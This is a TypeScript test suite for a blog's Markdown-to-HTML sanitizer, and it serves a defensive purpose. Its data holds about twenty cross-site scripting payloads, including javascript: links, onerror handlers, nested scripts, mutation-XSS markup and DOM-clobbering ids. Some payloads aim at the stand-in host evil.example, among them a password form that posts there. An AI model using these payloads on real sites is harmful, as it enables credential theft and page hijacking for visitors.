import { expect, it, onTestFinished } from "vitest";
import { markdownToHtml } from "../../../src/service/markdown/markdown-to-html.ts";
import { closePages, openBrowser } from "../../browser.ts";
import { clientOf, openRunningService } from "../open-service.ts";

// Everything here calls `alert`, loads from evil.example, hides the page, or takes over a name of its scripts unless it is
// sanitized.

interface Attack {
  readonly markdown: string;
  readonly shown: string;
}

const ATTACKS: Readonly<Record<string, Attack>> = {
  "javascript: in Markdown links": {
    markdown:
      "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x0A;script:alert(1)) [d](&#106;avascript:alert(1)) <javascript:alert(1)> [e][r]\n\n[r]: vbscript:alert(1)",
    shown: "<p><a>a</a> <a>b</a> <a>c</a> <a>d</a> <a>javascript:alert(1)</a> <a>e</a></p>",
  },
  "javascript: and data: in HTML links": {
    markdown:
      '<a href="javascript:alert(1)">a</a> <a href=" &#1; javascript:alert(1)">b</a> <a href="data:text/html,<script>alert(1)</script>">c</a> <a href="file:///etc/passwd">d</a>',
    shown: "<p><a>a</a> <a>b</a> <a>c</a> <a>d</a></p>",
  },
  "data: and javascript: in images": {
    markdown: "![a](data:image/svg+xml;base64,AAAA) ![b](javascript:alert(1)) [c](data:text/html;base64,AAAA)",
    shown: '<p><img alt="a"> <img alt="b"> <a>c</a></p>',
  },
  "event handlers": {
    markdown:
      '<img src="/none.png" onerror=alert(1)> <b onmouseover=alert(1)>b</b> <video autoplay src=javascript:alert(1) onerror=alert(1) poster=javascript:alert(1)></video> <details ontoggle=alert(1) open>d</details>',
    shown: '<p><img src="/none.png"> <b>b</b> <video></video> </p><details open>d</details><p></p>',
  },
  "scripts, including split and nested ones": {
    markdown: "<script\n>alert(1)</script\n> <scr<script>ipt>alert(1)</scr</script>ipt>",
    shown: " ipt>alert(1)ipt>",
  },
  "drawings with scripts": {
    markdown:
      '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    shown: "<p></p>",
  },
  "HTML that changes when it is parsed twice": {
    markdown:
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n\n<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    shown: '<p></p>\n<p></p><p title="</noscript><img src=x onerror=alert(1)>"></p>',
  },
  "HTML that breaks out of an attribute": {
    markdown: '<svg></p><style><a id="</style><img src=/none.png onerror=alert(1)>">',
    shown: '<p></p><img src="/none.png">"><p></p>',
  },
  "styles and other resources of the page": {
    markdown:
      '<style>body{display:none}</style> <link rel=stylesheet href=//evil.example> <meta http-equiv=refresh content="0;url=//evil.example"> <base href=//evil.example> <p style="position:fixed;inset:0" class="top">x</p>',
    shown: "    <p>x</p>",
  },
  "frames and objects": {
    markdown:
      '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe><object data=//evil.example></object><embed src=//evil.example>',
    shown: "",
  },
  "forms that ask for passwords": {
    markdown:
      '<form action=//evil.example><input name=password type=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button><select><option>o</select></form>',
    shown: '<input disabled type="checkbox">x',
  },
  "elements whose text browsers don't parse": {
    markdown: "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
    shown: "<p></p>&#x3C;img src=x onerror=alert(1)><p></p>",
  },
  "comments and declarations": {
    markdown: "<!-- <img src=x onerror=alert(1)> --> <?php alert(1) ?> <!DOCTYPE html>",
    shown: "  ",
  },
  "end tags that would close the page": {
    markdown: "</article></main></body></html>\n\n</div></div>",
    shown: "\n",
  },
  "unclosed tags": {
    markdown: "<div><p><b><i>open\n\n<table><tr><td>\n\nlast",
    shown: "<div><p><b><i>open\n</i></b></p><table><tbody><tr><td>\n<p>last</p></td></tr></tbody></table></div>",
  },
  "an element that swallows the rest of the page": { markdown: "a\n\n<textarea>b\n\n*c*", shown: "<p>a</p>\n" },
  "names that scripts use": {
    markdown:
      '<a id="location" name="cookie">a</a> <form id=getElementById></form> <img name=body id=documentElement> <div id="__proto__">x</div>',
    shown:
      '<p><a id="user-content-location" name="user-content-cookie">a</a> </p> <img id="user-content-documentElement"> <div id="user-content-__proto__">x</div><p></p>',
  },
  "headings with names used by scripts": {
    markdown: "# constructor\n\n# `__proto__`\n\n# toString",
    shown:
      '<h1 id="constructor">constructor</h1>\n<h1 id="__proto__"><code>__proto__</code></h1>\n<h1 id="tostring">toString</h1>',
  },
  "the language name of a code block": {
    markdown: '```"><script>alert(1)</script>\nx\n```\n\n``` js"onclick=alert(1)\ny\n```',
    shown:
      '<pre class="astro-code" tabindex="0" data-language="&#x22;><script>alert(1)</script>"><code>x</code></pre>\n<pre class="astro-code" tabindex="0" data-language="js&#x22;onclick=alert(1)"><code>y</code></pre>',
  },
  "the style of a table column": {
    markdown:
      '<table><tr><td style="text-align: center">a<td style="text-align: center;position:fixed">b<td style="background:url(//evil.example)">c</table>',
    shown: '<table><tbody><tr><td style="text-align: center">a</td><td>b</td><td>c</td></tr></tbody></table>',
  },
  "a link that exposes its window": {
    markdown: '<a target="_top" rel="opener" href="https://x.com">x</a>',
    shown: '<p><a rel="" href="https://x.com">x</a></p>',
  },
  "a marker of the publisher": {
    markdown: '<span hidden data-imprint-post="v1:x">a</span>',
    shown: "<p><span>a</span></p>",
  },
};

it.each(Object.entries(ATTACKS))("sanitizes %s", (_, { markdown, shown }) => {
  expect(markdownToHtml({ markdown, slug: "my-post" })).toBe(shown);
});

it("a browser runs none of them, and loads nothing from other hosts", async () => {
  const service = await openRunningService();
  const send = clientOf(service, { routeSet: "a", transport: "over HTTP" });
  await send("POST", "/api/blogs", { json: { name: "News", slug: "news" } });
  const browser = await openBrowser();
  onTestFinished(() => closePages(browser));
  const page = await browser.newPage();
  const events: string[] = [];
  page.on("dialog", (dialog) => {
    events.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(service.pagesUrl)) events.push(request.url());
  });
  for (const [number, { markdown }] of Object.values(ATTACKS).entries()) {
    await send("POST", "/api/blogs/news/posts", { json: { slug: `post-${number}`, title: "Post", markdown } });
    await page.goto(`${service.pagesUrl}/blog/news/post-${number}`);
    expect(await page.locator("h1").first().isVisible()).toBe(true);
    expect(await page.locator("article :is(script, style, iframe, form, svg, [onerror], [onload])").count()).toBe(0);
  }
  expect(events).toEqual([]);
});
